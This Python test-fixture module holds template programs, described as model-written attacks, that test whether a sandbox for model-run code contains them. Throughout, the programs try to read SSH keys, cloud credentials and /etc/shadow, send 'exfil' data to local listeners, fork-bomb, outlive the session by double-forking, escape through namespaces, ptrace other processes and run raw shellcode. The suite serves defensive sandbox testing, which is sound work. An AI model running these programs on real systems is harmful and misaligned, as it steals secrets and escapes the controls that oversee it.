# ruff: noqa: E501 - the programs are data: their lines stay as a model would write them
"""The model-written attack programs of ``test_attacks.py`` (contract §5.3), as ``string.Template`` texts.

Placeholders (``$secret``, ``$tcp_port``, ``$m_fork``...) come from ``Evidence.substitutions()``; the
programs only ever learn *paths, ports and pids*, never the canary tokens, so a token in a result
proves a read. Each program records what it tried in ``R`` (via ``attempt``) and returns it: that
printout is kept for the failure message only; the verdict comes from host-side evidence.

``PRELUDE`` is prepended to every program; ``CTYPES`` adds a raw ``syscall(2)`` helper with the x86_64
and aarch64 numbers (the programs bypass the Python API on purpose).
"""

from __future__ import annotations

PRELUDE = """\
import os, sys
R = {}
def attempt(name, fn, *args, **kwargs):
    try:
        value = fn(*args, **kwargs)
    except BaseException as error:
        R[name] = ["err", type(error).__name__, getattr(error, "errno", None), str(error)[:300]]
        return None
    R[name] = ["ok", repr(value)[:3000]]
    return value
"""

CTYPES = """\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
MACHINE = os.uname().machine
NR = {
    "x86_64": {"socket": 41, "connect": 42, "io_uring_setup": 425, "bpf": 321, "perf_event_open": 298,
               "userfaultfd": 323, "add_key": 248, "keyctl": 250, "unshare": 272, "clone": 56,
               "setns": 308, "ptrace": 101, "process_vm_readv": 310, "memfd_create": 319,
               "execveat": 322, "kill": 62, "tgkill": 234, "personality": 135, "pidfd_open": 434,
               "pidfd_send_signal": 424, "shmget": 29, "msgget": 68, "semget": 64, "mount": 165},
    "aarch64": {"socket": 198, "connect": 203, "io_uring_setup": 425, "bpf": 280, "perf_event_open": 241,
                "userfaultfd": 282, "add_key": 217, "keyctl": 219, "unshare": 97, "clone": 220,
                "setns": 268, "ptrace": 117, "process_vm_readv": 270, "memfd_create": 279,
                "execveat": 281, "kill": 129, "tgkill": 131, "personality": 92, "pidfd_open": 434,
                "pidfd_send_signal": 424, "shmget": 194, "msgget": 186, "semget": 190, "mount": 40},
}[MACHINE]
def sc(name, *args):
    converted = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(NR[name]), *converted)
    if result < 0:
        err = ctypes.get_errno()
        raise OSError(err, name + ": " + os.strerror(err))
    return result
"""

# --- filesystem (contract SA1–SA7) -------------------------------------------------------------------

READ_SECRET = """
import io, mmap, pathlib
for p in ["/etc/passwd", "/etc/shadow", "$secret", "$home/.netrc"]:
    attempt("open:" + p, lambda p=p: open(p).read())
    attempt("os.open:" + p, lambda p=p: os.read(os.open(p, os.O_RDONLY), 65536))
    attempt("pathlib:" + p, lambda p=p: pathlib.Path(p).read_bytes())
    attempt("fileio:" + p, lambda p=p: io.FileIO(p).read())
    attempt("mmap:" + p, lambda p=p: bytes(mmap.mmap(os.open(p, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:4096]))
    attempt("o_path+proc:" + p, lambda p=p: os.read(os.open("/proc/self/fd/%d" % os.open(p, os.O_PATH), os.O_RDONLY), 4096))
attempt("dir_fd", lambda: os.read(os.open("secret.txt", os.O_RDONLY, dir_fd=os.open("$base", os.O_RDONLY)), 4096))
attempt("o_path-dir_fd", lambda: os.read(os.open("secret.txt", os.O_RDONLY, dir_fd=os.open("$base", os.O_PATH)), 4096))
attempt("chdir", lambda: (os.chdir("$base"), open("secret.txt").read()))
return R
"""

LIST_HOME = """
import glob
for d in ["/root", "/home", "$home", "$home/.ssh", "$home/.aws", os.path.expanduser("~"), "/etc/ssh"]:
    attempt("listdir:" + d, os.listdir, d)
    attempt("scandir:" + d, lambda d=d: [e.name for e in os.scandir(d)])
    attempt("glob:" + d, lambda d=d: glob.glob(d + "/*") + glob.glob(d + "/.*"))
attempt("walk", lambda: [(r, ds, fs) for r, ds, fs in os.walk("$home")])
attempt("read-ssh", lambda: [open(os.path.join("$home/.ssh", n)).read() for n in os.listdir("$home/.ssh")])
attempt("read-aws", lambda: open("$home/.aws/credentials").read())
attempt("read-netrc", lambda: open("$home/.netrc").read())
return R
"""

WRITE_OUTSIDE = """
attempt("create", lambda: open("$newfile", "w").write("pwned"))
attempt("create-excl", lambda: os.close(os.open("$newfile-2", os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o666)))
attempt("overwrite", lambda: open("$victim", "w").write("pwned"))
attempt("append", lambda: open("$victim", "a").write("pwned"))
attempt("rw-open", lambda: os.write(os.open("$victim", os.O_RDWR), b"pwned"))
attempt("truncate-path", os.truncate, "$victim", 0)
attempt("mkdir", os.mkdir, "$newfile-dir")
attempt("mkfifo", os.mkfifo, "$newfile-fifo")
attempt("mknod", os.mknod, "$newfile-node")
attempt("symlink-out", os.symlink, "/etc/passwd", "$newfile-link")
attempt("unlink-victim", os.unlink, "$victim")
attempt("write-base", lambda: open("$base/new-in-base", "w").write("pwned"))
return R
"""

PERSIST_WRITE = """
for p in ["$tmp_marker", "$vartmp_marker", "$shm_marker"]:
    attempt("write:" + p, lambda p=p: open(p, "w").write("persist"))
attempt("shm_open-style", lambda: os.close(os.open("$shm_marker2", os.O_CREAT | os.O_RDWR, 0o600)))
attempt("workdir-file", lambda: open("persist-in-workdir", "w").write("persist"))
return [R, os.getcwd()]
"""

PERSIST_READ = """
paths = ["$tmp_marker", "$vartmp_marker", "$shm_marker", "$shm_marker2", "persist-in-workdir"]
return {"exists": [p for p in paths if os.path.exists(p)], "workdir": sorted(os.listdir("."))}
"""

SYMLINK = """
attempt("symlink-secret", os.symlink, "$secret", "link-secret")
attempt("read-via-symlink", lambda: open("link-secret").read())
attempt("symlink-passwd", os.symlink, "/etc/passwd", "link-passwd")
attempt("read-via-symlink-passwd", lambda: open("link-passwd").read())
attempt("symlink-dir", os.symlink, "$base", "link-dir")
attempt("read-via-dir-link", lambda: open("link-dir/secret.txt").read())
attempt("write-via-dir-link", lambda: open("link-dir/open/marker-symlink_dir", "w").write("x"))
attempt("symlink-proc-root", lambda: open("/proc/self/root$secret").read())
return R
"""

HARDLINK = """
attempt("link-secret", os.link, "$secret", "hard-secret")
attempt("read-hard-secret", lambda: open("hard-secret").read())
attempt("link-victim", os.link, "$victim", "hard-victim")
attempt("write-via-hard-link", lambda: open("hard-victim", "w").write("pwned"))
attempt("linkat-follow", lambda: os.link("$secret", "hard-secret-2", follow_symlinks=True))
import time
time.sleep(0.3)  # hold the links while the host looks
return R
"""

RENAME = """
attempt("rename-in", os.rename, "$movable", "stolen")
attempt("read-stolen", lambda: open("stolen").read())
open("mine", "w").write("pwned")
attempt("replace-out", os.replace, "mine", "$victim")
attempt("rename-out", os.rename, "mine", "$newfile")
attempt("rename-dir-in", os.rename, "$open", "stolen-dir")
attempt("rename-secret", os.rename, "$secret", "$open/secret-moved")
return R
"""

METADATA = """
attempt("chmod", os.chmod, "$victim", 0o777)
attempt("chmod-secret", os.chmod, "$secret", 0o600)
attempt("chown", os.chown, "$victim", 65534, 65534)
attempt("lchown", os.lchown, "$victim", 0, 0)
attempt("utime", os.utime, "$victim", (1, 1))
attempt("utime-now", os.utime, "$victim")
attempt("setxattr", os.setxattr, "$victim", "user.toolrt", b"pwned")
attempt("chmod-dir", os.chmod, "$open", 0o700)
attempt("fchmod-o_path", lambda: os.chmod(os.open("$victim", os.O_PATH), 0o777))
attempt("fchmod-rdonly", lambda: os.chmod(os.open("$victim", os.O_RDONLY), 0o777))
return R
"""

STAT_PROBE = """
for p in ["$secret", "$home/.ssh", "$victim"]:
    attempt("stat:" + p, lambda p=p: [os.stat(p).st_mtime_ns, os.stat(p).st_size, os.stat(p).st_mtime])
    attempt("lstat:" + p, lambda p=p: os.lstat(p).st_mtime_ns)
    attempt("exists:" + p, os.path.exists, p)
return R
"""

DISK_MANY = """
chunk = b"x" * (7 << 20)
for i in range(20):
    with open(f"fill{i}", "wb") as f:
        f.write(chunk)
return "finished"
"""

DISK_ONE = """
with open("big", "wb") as f:
    for _ in range(100):
        f.write(b"x" * (1 << 20))
return "finished"
"""

DISK_SPARSE = """
with open("sparse", "wb") as f:
    f.seek(1 << 40)
    f.write(b"x")
return "finished"
"""

INODE_FILL = """
import time
n = 0
started = time.time()
try:
    while time.time() - started < 2.0 and n < 1000000:
        open(f"i{n}", "w").close()
        n += 1
except OSError as e:
    return ["stopped", n, repr(e)]
return ["created", n]
"""

DISK_UNLINKED = """
import time
files, total, err = [], 0, None
chunk = b"x" * (1 << 20)
try:
    for i in range(40):
        f = open(f"u{i}", "wb")
        os.unlink(f"u{i}")
        files.append(f)
        for _ in range(7):
            f.write(chunk)
            f.flush()
            total += len(chunk)
except OSError as e:
    err = repr(e)
time.sleep(0.3)
return [total, err]
"""

HOST_CLEANUP = """
await tools.record({"cwd": os.getcwd()})
os.mkdir("locked")
open("locked/inside", "w").write("x")
os.fchmod(os.open("locked", os.O_RDONLY | os.O_DIRECTORY), 0)  # fchmod: the fd came through Landlock
attempt("symlink-dir", os.symlink, "$open", "escape-dir")
attempt("symlink-file", os.symlink, "$victim", "escape-file")
for depth in range(3000):
    os.mkdir("d")
    os.chdir("d")
return depth
"""

IMPORT_SITE = """
import glob
candidates = ["$pkg", "/usr/lib/python3/dist-packages", "/usr/local/lib/python3.11/dist-packages"]
candidates += glob.glob(sys.base_prefix + "/lib/python3*/site-packages")
candidates += glob.glob("/usr/lib/python3*/site-packages") + glob.glob("/work/*/.venv/lib/python3*/site-packages")
candidates += $site_paths
for p in candidates:
    sys.path.insert(0, p)
for mod in ["$module", "pytest", "toolrt", "rich", "apt", "pip"]:
    attempt("import:" + mod, lambda mod=mod: getattr(__import__(mod), "TOKEN", getattr(__import__(mod), "__file__", None)))
attempt("site.main", lambda: __import__("site").main())
attempt("sitecustomize", lambda: __import__("sitecustomize"))
return R
"""

# --- environment and /proc (contract SA8–SA11) -------------------------------------------------------

ENVIRON = """
attempt("environ", lambda: dict(os.environ))
attempt("environb", lambda: dict(os.environb))
attempt("getenv", os.getenv, "$env_name")
attempt("proc-self-environ", lambda: open("/proc/self/environ", "rb").read())
attempt("proc-thread-self-environ", lambda: open("/proc/thread-self/environ", "rb").read())
attempt("proc-1-environ", lambda: open("/proc/1/environ", "rb").read())
attempt("proc-host-environ", lambda: open("/proc/$host_pid/environ", "rb").read())
import ctypes
def libc_environ():
    env = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    out, i = [], 0
    while env[i]:
        out.append(env[i]); i += 1
    return out
attempt("libc-environ", libc_environ)
return R
"""

PROC_PARENT = """
targets = [os.getppid(), 1]
try:
    fields = open(f"/proc/{os.getppid()}/stat").read().rsplit(")", 1)[1].split()
    targets.append(int(fields[1]))
except BaseException:
    pass
for pid in targets:
    for what in ["environ", "cmdline"]:
        attempt(f"{what}:{pid}", lambda pid=pid, what=what: open(f"/proc/{pid}/{what}", "rb").read()[:8000])
    def fds(pid=pid):
        out = {}
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
                out[fd] = os.pread(handle, 300, 0) if os.path.isfile(f"/proc/{pid}/fd/{fd}") else os.read(handle, 300)
            except BaseException as e:
                out[fd] = repr(e)
        return out
    attempt(f"fds:{pid}", fds)
    attempt(f"mem:{pid}", lambda pid=pid: open(f"/proc/{pid}/mem", "rb").read(16))
return R
"""

HOST_INFO = """
attempt("proc-list", lambda: sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
attempt("boot_id", lambda: open("/proc/sys/kernel/random/boot_id").read())
attempt("machine-id", lambda: open("/etc/machine-id").read())
attempt("dbus-machine-id", lambda: open("/var/lib/dbus/machine-id").read())
attempt("sys-net", lambda: os.listdir("/sys/class/net"))
attempt("sys-mac", lambda: [open(f"/sys/class/net/{n}/address").read() for n in os.listdir("/sys/class/net")])
attempt("proc-net-tcp", lambda: open("/proc/net/tcp").read()[:4000])
attempt("proc-net-unix", lambda: open("/proc/net/unix").read()[:4000])
attempt("cpuinfo", lambda: open("/proc/cpuinfo").read()[:1000])
attempt("mountinfo", lambda: open("/proc/self/mountinfo").read()[:4000])
attempt("dmi", lambda: open("/sys/class/dmi/id/product_uuid").read())
attempt("uname", lambda: list(os.uname()))
return R
"""

# --- network (contract SA12–SA17) --------------------------------------------------------------------

TCP = """
import socket
for host in ["127.0.0.1", "localhost", "0.0.0.0"]:
    def go(host=host):
        s = socket.create_connection((host, $tcp_port), timeout=1)
        s.sendall(b"exfil")
        return s.getsockname()
    attempt("tcp:" + host, go)
if $tcp6_port:
    attempt("tcp6", lambda: socket.create_connection(("::1", $tcp6_port), timeout=1).sendall(b"exfil"))
import asyncio
async def aio():
    reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", $tcp_port), 1)
    writer.write(b"exfil")
    await writer.drain()
try:
    await aio()
    R["asyncio"] = ["ok"]
except BaseException as e:
    R["asyncio"] = ["err", repr(e)]
return R
"""

UDP = """
import socket, struct
def send(family, address, payload=b"exfil"):
    s = socket.socket(family, socket.SOCK_DGRAM)
    return s.sendto(payload, address)
attempt("udp4", send, socket.AF_INET, ("127.0.0.1", $udp_port))
if $udp6_port:
    attempt("udp6", send, socket.AF_INET6, ("::1", $udp6_port))
query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\\x04exfil\\x07example\\x03com\\x00" + struct.pack(">HH", 1, 1)
attempt("dns-to-loopback", send, socket.AF_INET, ("127.0.0.1", $udp_port), query)
def connected():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("127.0.0.1", $udp_port))
    return s.send(b"exfil")
attempt("udp-connected", connected)
return R
"""

TCP_LISTEN = """
import socket, time
def listen():
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", $listen_port))
    s.listen(8)
    return s
s = attempt("bind-listen", listen)
if s is not None:
    s.settimeout(1.5)
    attempt("accept", s.accept)
else:
    time.sleep(1.5)
return R
"""

UNIX = """
import socket
def stream(address):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect(address)
    s.sendall(b"exfil")
    return "connected"
attempt("path-stream", stream, "$unix_path")
attempt("abstract-stream", stream, "\\0$abstract")
attempt("path-dgram", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"exfil", "$unix_dgram"))
attempt("socketpair-dgram-sendto", lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"exfil", "$unix_dgram"))
attempt("seqpacket", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET).connect("$unix_path"))
attempt("channel-sendto", lambda: socket.socket(fileno=os.dup(3)).sendto(b"exfil", "$unix_dgram"))
return R
"""

NET_OTHER = """
import socket, time
held = []
def keep(s):
    held.append(s)
    return s.family
attempt("metadata-169.254.169.254", lambda: keep(socket.create_connection(("169.254.169.254", 80), timeout=0.5)))
attempt("netlink-route", lambda: keep(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)))
attempt("packet-raw", lambda: keep(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)))
attempt("inet-raw", lambda: keep(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)))
attempt("vsock", lambda: keep(socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)))
def vsock_connect():
    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    keep(s)
    s.settimeout(0.5)
    s.connect((2, 1024))
attempt("vsock-connect-host", vsock_connect)
attempt("inet6-udp", lambda: keep(socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)))
time.sleep(0.3)
R["held"] = len(held)
return R
"""

RAW_SOCKET = """
import struct, socket, time
held = []
def sockaddr():
    return struct.pack("=H", 2) + struct.pack(">H", $tcp_port) + bytes([127, 0, 0, 1]) + bytes(8)
def via_syscall():
    fd = sc("socket", 2, 1, 0)
    held.append(fd)
    address = sockaddr()
    sc("connect", fd, address, len(address))
    os.write(fd, b"exfil")
    return fd
attempt("syscall-socket-connect", via_syscall)
def via_libc():
    fd = libc.socket(2, 1, 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "libc socket")
    held.append(fd)
    address = sockaddr()
    if libc.connect(fd, address, len(address)) != 0:
        raise OSError(ctypes.get_errno(), "libc connect")
    return fd
attempt("libc-socket-connect", via_libc)
def udp_libc():
    fd = libc.socket(2, 2, 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "libc socket udp")
    held.append(fd)
    address = struct.pack("=H", 2) + struct.pack(">H", $udp_port) + bytes([127, 0, 0, 1]) + bytes(8)
    return libc.sendto(fd, b"exfil", 5, 0, address, len(address))
attempt("libc-udp-sendto", udp_libc)
time.sleep(0.3)
return R
"""

IO_URING = """
import time
params = ctypes.create_string_buffer(120)
fd = attempt("io_uring_setup", sc, "io_uring_setup", 8, params)
if fd is not None:
    time.sleep(0.3)
return R
"""

# --- processes and the kernel surface (contract SA18–SA22) -------------------------------------------

EXEC_VARIANTS = {
    "subprocess": """
import subprocess
attempt("subprocess", subprocess.run, ["/bin/sh", "-c", "echo x > $m_subprocess"], timeout=2)
return R
""",
    "os.system": """
attempt("os.system", os.system, "echo x > $m_system")
return R
""",
    "ctypes-system": """
import ctypes
attempt("libc.system", lambda: ctypes.CDLL(None).system(b"echo x > $m_ctypes_system"))
return R
""",
    "posix_spawn": """
def spawn():
    pid = os.posix_spawn("/bin/sh", ["sh", "-c", "echo x > $m_posix_spawn"], {})
    return os.waitpid(pid, 0)
attempt("posix_spawn", spawn)
return R
""",
    "execv": """
attempt("execv", os.execv, "/bin/sh", ["sh", "-c", "echo x > $m_execv"])
return R
""",
}

MEMFD_EXEC = """
def memfd_exec():
    fd = sc("memfd_create", b"x", 0)
    os.write(fd, b"#!/bin/sh\\necho x > $m_memfd\\n")
    argv = (ctypes.c_char_p * 2)(b"x", None)
    envp = (ctypes.c_char_p * 1)(None)
    return sc("execveat", fd, b"", argv, envp, 0x1000)
attempt("memfd+execveat", memfd_exec)
def exec_from_workdir():
    open("script.sh", "w").write("#!/bin/sh\\necho x > $m_memfd\\n")
    os.chmod("script.sh", 0o755)
    os.execv("./script.sh", ["script.sh"])
attempt("exec-from-workdir", exec_from_workdir)
return R
"""

FORK = """
import time
def forged_call():
    body = b'{"t":"call","id":1000000,"ns":"tools","name":"record","args":{"from":"forked-child"}}'
    os.write(3, len(body).to_bytes(4, "big") + body)
pid = attempt("fork", os.fork)
if pid == 0:
    try:
        open("$m_fork", "w").write("forked")
    except BaseException:
        pass
    try:
        forged_call()
    except BaseException:
        pass
    time.sleep(0.5)
    os._exit(0)
time.sleep(0.4)
return R
"""

FORK_BOMB = """
import time
forked, errors = 0, []
for i in range(100):
    try:
        pid = os.fork()
    except OSError as e:
        errors.append(e.errno)
        break
    if pid == 0:
        time.sleep(1.0)
        os._exit(0)
    forked += 1
time.sleep(0.3)
return {"forked": forked, "errors": errors}
"""

DOUBLE_FORK = """
import time
def escape():
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(1.2)
            try:
                open("$m_survivor", "w").write("survived")
            except BaseException:
                pass
            os._exit(0)
        os._exit(0)
    os.waitpid(pid, 0)
    return pid
attempt("double-fork-setsid", escape)
attempt("setsid-self", os.setsid)
return R
"""

NAMESPACES = """
import time
NEWUSER, NEWNS, NEWNET, NEWPID = 0x10000000, 0x00020000, 0x40000000, 0x20000000
NEWIPC, NEWUTS, NEWCGROUP = 0x08000000, 0x04000000, 0x02000000
attempt("unshare-user", sc, "unshare", NEWUSER)
attempt("unshare-net", sc, "unshare", NEWNET)
attempt("unshare-mnt", sc, "unshare", NEWNS)
attempt("unshare-ipc-uts", sc, "unshare", NEWIPC | NEWUTS)
attempt("unshare-pid", sc, "unshare", NEWPID)
attempt("unshare-all", sc, "unshare", NEWUSER | NEWNS | NEWNET | NEWIPC | NEWUTS | NEWCGROUP)
def clone_newuser():
    pid = sc("clone", NEWUSER | 17, 0, 0, 0, 0)
    if pid == 0:
        try:
            open("$m_clone", "w").write("cloned")
        except BaseException:
            pass
        time.sleep(0.5)
        os._exit(0)
    return pid
attempt("clone-newuser", clone_newuser)
attempt("setns-channel", sc, "setns", 3, 0)
attempt("setns-proc", lambda: sc("setns", os.open("/proc/1/ns/net", os.O_RDONLY), 0))
time.sleep(0.3)
return R
"""

KERNEL_SURFACE = """
import struct, time
held = []
def bpf_map():
    attr = ctypes.create_string_buffer(struct.pack("=IIII", 2, 4, 4, 1) + bytes(112))
    held.append(sc("bpf", 0, attr, 128))
attempt("bpf-map-create", bpf_map)
def perf():
    attr = bytearray(128)
    struct.pack_into("=IIQ", attr, 0, 1, 128, 0)
    struct.pack_into("=Q", attr, 40, 0x61)
    buffer = ctypes.create_string_buffer(bytes(attr))
    held.append(sc("perf_event_open", buffer, 0, -1, -1, 0))
attempt("perf_event_open", perf)
attempt("userfaultfd", lambda: held.append(sc("userfaultfd", 0o2000000 | 1)))
attempt("add_key-process", sc, "add_key", b"user", b"toolrt-attack-$nonce", b"payload", 7, -2)
attempt("add_key-user", sc, "add_key", b"user", b"toolrt-attack-user-$nonce", b"payload", 7, -4)
attempt("keyctl-get-user-keyring", sc, "keyctl", 0, -4, 0)
attempt("mount-bogus-fs", lambda: libc.mount(b"none", b"/nonexistent-toolrt", b"toolrt-no-such-fs", 0, None) or ctypes.get_errno())
attempt("mount-syscall", sc, "mount", b"none", b"/nonexistent-toolrt", b"toolrt-no-such-fs", 0, None)
attempt("ptrace-traceme", sc, "ptrace", 0, 0, 0, 0)
attempt("personality", sc, "personality", 0x0400000)
attempt("memfd_create", lambda: held.append(sc("memfd_create", b"x", 1)))
def inotify():
    fd = libc.inotify_init1(0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "inotify_init1")
    held.append(fd)
attempt("inotify", inotify)
attempt("pidfd_open-self", lambda: held.append(sc("pidfd_open", os.getpid(), 0)))
time.sleep(0.3)
return R
"""

IPC = """
import time
attempt("shmget", sc, "shmget", $ipc_key, 4096, 0o1666)
attempt("shmget-private", sc, "shmget", 0, 4096, 0o1666)
attempt("msgget", sc, "msgget", $ipc_key, 0o1666)
attempt("semget", sc, "semget", $ipc_key, 1, 0o1666)
attempt("posix-shm", lambda: os.close(os.open("$shm_marker", os.O_CREAT | os.O_RDWR, 0o666)))
attempt("posix-sem", lambda: os.close(os.open("$shm_marker2", os.O_CREAT | os.O_RDWR, 0o666)))
time.sleep(0.2)
return R
"""

INT80_KILL = """
import ctypes, mmap
def run_code(code):
    buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    buf.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(buf))
    return ctypes.CFUNCTYPE(ctypes.c_long)(address)()
pid = $decoy_pid
# push rbx; mov eax, 37 (i386 kill); mov ebx, pid; mov ecx, SIGUSR1; int 0x80; pop rbx; ret
code = bytes([0x53, 0xB8, 37, 0, 0, 0, 0xBB]) + pid.to_bytes(4, "little") + bytes([0xB9, 10, 0, 0, 0, 0xCD, 0x80, 0x5B, 0xC3])
R["int80-kill"] = run_code(code)
return R
"""

X32_KILL = """
import ctypes, mmap
def run_code(code):
    buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    buf.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(buf))
    return ctypes.CFUNCTYPE(ctypes.c_long)(address)()
pid = $decoy_pid
# mov eax, __X32_SYSCALL_BIT | 62 (kill); mov edi, pid; mov esi, SIGUSR1; syscall; ret
code = bytes([0xB8]) + (0x40000000 + 62).to_bytes(4, "little") + bytes([0xBF]) + pid.to_bytes(4, "little")
code += bytes([0xBE, 10, 0, 0, 0, 0x0F, 0x05, 0xC3])
R["x32-kill"] = run_code(code)
return R
"""

THREADS = """
import threading, _thread, socket, time
results = {}
def forker():
    pid = os.fork()
    if pid == 0:
        try:
            open("$m_fork_thread", "w").write("x")
        finally:
            os._exit(0)
    return pid
def worker(tag):
    for name, fn in [
        ("read", lambda: open("$secret").read()),
        ("tcp", lambda: socket.create_connection(("127.0.0.1", $tcp_port), timeout=1).sendall(b"x")),
        ("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", $udp_port))),
        ("signal", lambda: os.kill($decoy_pid, 10)),
        ("write", lambda: open("$newfile-" + tag, "w").write("x")),
        ("fork", forker),
    ]:
        try:
            results[f"{tag}:{name}"] = repr(fn())[:300]
        except BaseException as e:
            results[f"{tag}:{name}"] = "err " + type(e).__name__
workers = [threading.Thread(target=worker, args=(f"t{i}",)) for i in range(3)]
for t in workers:
    t.start()
_thread.start_new_thread(worker, ("raw",))
def nested():
    inner = threading.Thread(target=worker, args=("nested",))
    inner.start()
    inner.join()
outer = threading.Thread(target=nested)
outer.start()
time.sleep(0.5)
for t in workers + [outer]:
    t.join()
return results
"""

# --- other processes and the host (contract SA23–SA26) -----------------------------------------------

SIGNALS = """
import signal, time
attempt("kill-ppid-urg", os.kill, os.getppid(), signal.SIGURG)
attempt("kill-host-urg", os.kill, $host_pid, signal.SIGURG)
attempt("killpg-host-urg", os.killpg, $host_pgid, signal.SIGURG)
attempt("kill-minus1-0", os.kill, -1, 0)
attempt("kill-ppid-0", os.kill, os.getppid(), 0)
for d in $decoy_pids:
    attempt(f"usr1:{d}", os.kill, d, signal.SIGUSR1)
    attempt(f"term:{d}", os.kill, d, signal.SIGTERM)
    attempt(f"killpg-usr1:{d}", os.killpg, d, signal.SIGUSR1)
    attempt(f"tgkill:{d}", sc, "tgkill", d, d, signal.SIGUSR1)
    attempt(f"pidfd:{d}", lambda d=d: signal.pidfd_send_signal(os.pidfd_open(d), signal.SIGUSR1))
    attempt(f"sigqueue-raw:{d}", sc, "kill", d, signal.SIGHUP)
    attempt(f"stop:{d}", os.kill, d, signal.SIGSTOP)
    attempt(f"kill:{d}", os.kill, d, signal.SIGKILL)
time.sleep(0.3)
return R
"""

PTRACE = """
import time
libc.ptrace.restype = ctypes.c_long
def pt(request, pid, addr=0, data=0):
    ctypes.set_errno(0)
    r = libc.ptrace(ctypes.c_long(request), ctypes.c_long(pid), ctypes.c_void_p(addr), ctypes.c_void_p(data))
    e = ctypes.get_errno()
    if r == -1 and e:
        raise OSError(e, os.strerror(e))
    return r
class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
def vm_readv(pid, address, size):
    buffer = ctypes.create_string_buffer(size)
    local = IOVec(ctypes.addressof(buffer), size)
    remote = IOVec(address, size)
    n = sc("process_vm_readv", pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return buffer.raw[:n]
def stack_region(pid):
    for line in open(f"/proc/{pid}/maps"):
        if "[stack]" in line:
            lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
            return lo, hi
    raise LookupError("no stack")
for d in $decoy_pids:
    attempt(f"seize:{d}", pt, 0x4206, d)
    attempt(f"attach:{d}", pt, 16, d)
    attempt(f"environ:{d}", lambda d=d: open(f"/proc/{d}/environ", "rb").read())
    attempt(f"mem:{d}", lambda d=d: open(f"/proc/{d}/mem", "rb").read(16))
    def mem_stack(d=d):
        lo, hi = stack_region(d)
        f = open(f"/proc/{d}/mem", "rb")
        f.seek(hi - 65536)
        return f.read(65536)
    attempt(f"mem-stack:{d}", mem_stack)
    def vm_stack(d=d):
        lo, hi = stack_region(d)
        return vm_readv(d, hi - 65536, 65536)
    attempt(f"process_vm_readv-stack:{d}", vm_stack)
    attempt(f"process_vm_readv-blind:{d}", vm_readv, d, 0x400000, 16)
    attempt(f"peek:{d}", pt, 2, d, 0x400000)
time.sleep(0.4)
return R
"""

FD_INHERIT = """
import stat
found = {}
for fd in range(3, 1024):
    try:
        st = os.fstat(fd)
    except OSError:
        continue
    info = [stat.S_IFMT(st.st_mode)]
    if fd != 3:
        try:
            info.append(os.write(fd, b"leaked-through-an-inherited-fd"))
        except OSError as e:
            info.append(e.errno)
        try:
            os.set_blocking(fd, False)
            info.append(os.read(fd, 200))
        except OSError as e:
            info.append(e.errno)
        try:
            os.lseek(fd, 0, 0)
            info.append(os.read(fd, 200))
        except OSError as e:
            info.append(e.errno)
    found[str(fd)] = repr(info)
return found
"""

RLIMITS = """
import resource, time
for name in ["RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NOFILE", "RLIMIT_NPROC", "RLIMIT_FSIZE"]:
    which = getattr(resource, name)
    unlimited = (resource.RLIM_INFINITY, resource.RLIM_INFINITY)
    attempt("setrlimit:" + name, resource.setrlimit, which, unlimited)
    attempt("prlimit-self:" + name, resource.prlimit, 0, which, unlimited)
attempt("prlimit-decoy", resource.prlimit, $decoy_pid, resource.RLIMIT_NOFILE, (5, 5))
attempt("nice", os.nice, -5)
attempt("setpriority-self", os.setpriority, os.PRIO_PROCESS, 0, -5)
attempt("setpriority-decoy", os.setpriority, os.PRIO_PROCESS, $decoy_pid, 10)
attempt("sched-rr", os.sched_setscheduler, 0, os.SCHED_RR, os.sched_param(1))
attempt("sched-fifo", os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1))
attempt("sched-decoy", os.sched_setscheduler, $decoy_pid, os.SCHED_IDLE, os.sched_param(0))
attempt("limits-now", lambda: resource.getrlimit(resource.RLIMIT_AS))
time.sleep(0.4)
return R
"""

CAPABILITIES = """
import time
attempt("ids", lambda: [os.getresuid(), os.getresgid(), os.getgroups()])
attempt("status", lambda: [l for l in open("/proc/self/status") if l.startswith(("Cap", "NoNewPrivs", "Seccomp"))])
time.sleep(0.5)
return R
"""

